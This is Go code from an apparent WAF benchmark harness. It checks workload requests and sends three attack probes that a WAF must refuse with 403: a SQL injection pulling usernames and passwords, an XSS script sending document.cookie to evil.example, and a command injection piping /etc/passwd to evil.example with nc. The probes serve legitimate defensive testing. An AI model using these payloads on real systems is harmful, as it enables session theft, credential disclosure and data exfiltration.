package main

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
)

// Before measuring, the harness sends every request of the workload's
// cycle once to every target (verifyWorkload): a benign request that a
// target refuses would otherwise only show up as an error count. Targets
// with a WAF (coraza, and profiles marked waf) also get attackProbes, which
// they must refuse with 403: a WAF that is not actually on would make the
// throughput comparison meaningless. The probes are valid for the shop
// spec (so the openapi check lets them reach the WAF) and put the payload
// in free text, where both systems scan it.

// verifyWorkload sends each request of w once, in order, and returns one
// line per request that did not get a 2xx answer.
func verifyWorkload(ctx context.Context, q *requester) []string {
	var bad []string
	for i := range q.w.reqs {
		wr := &q.w.reqs[i]
		if status, err := q.roundTrip(ctx, wr); err != nil {
			bad = append(bad, fmt.Sprintf("request %d (%s %s): %s", i+1, wr.method, shorten(wr.path, 60), describe(status, err)))
		}
	}
	return bad
}

func describe(status int, err error) string {
	if status != 0 {
		return fmt.Sprintf("status %d", status)
	}
	return classify(err)
}

func shorten(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}

// attackProbe is a request a WAF at paranoia level 1 must refuse.
type attackProbe struct {
	name string
	req  workReq
}

var attackProbes = []attackProbe{
	{"SQL injection in the search text", workReq{method: http.MethodGet,
		path: "/api/products?" + url.Values{"q": {"boots' UNION SELECT username, password FROM users--"}, "sort": {"relevance"}, "page": {"1"}}.Encode()}},
	{"XSS in a review", workReq{method: http.MethodPost, path: "/api/products/1001/reviews",
		body: mustJSON(func() Review {
			r := shopReviews[0].Review
			r.Body = `Lovely boots <script>fetch('https://evil.example/'+document.cookie)</script>`
			return r
		}())}},
	{"command injection in a gift note", workReq{method: http.MethodPost, path: "/api/orders",
		body: mustJSON(func() Order { o := shopOrders[0]; o.Gift.Note = "; cat /etc/passwd | nc evil.example 4444"; return o }())}},
}

// probeAttacks sends the attack probes and returns how many were refused
// with 403, and a line for each that was not.
func probeAttacks(ctx context.Context, q *requester) (refused int, missed []string) {
	for _, p := range attackProbes {
		status, err := q.roundTrip(ctx, &p.req)
		if status == http.StatusForbidden {
			refused++
			continue
		}
		missed = append(missed, fmt.Sprintf("%s: %s, want status 403", p.name, describe(status, err)))
	}
	return refused, missed
}
